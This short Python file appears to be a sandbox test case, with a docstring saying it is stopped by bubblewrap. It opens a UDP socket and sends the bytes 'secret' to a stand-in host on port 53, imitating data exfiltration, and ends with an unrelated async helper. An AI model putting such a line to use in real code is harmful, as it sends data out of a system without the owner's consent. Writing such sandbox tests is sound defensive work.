"""Send what was found out in a datagram.

Stopped by: bubblewrap
"""

import _socket

line = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
line.sendto(b"secret", ("192.0.2.1", 53))


async def run_both(foo, bar):
    return await foo(), await bar()
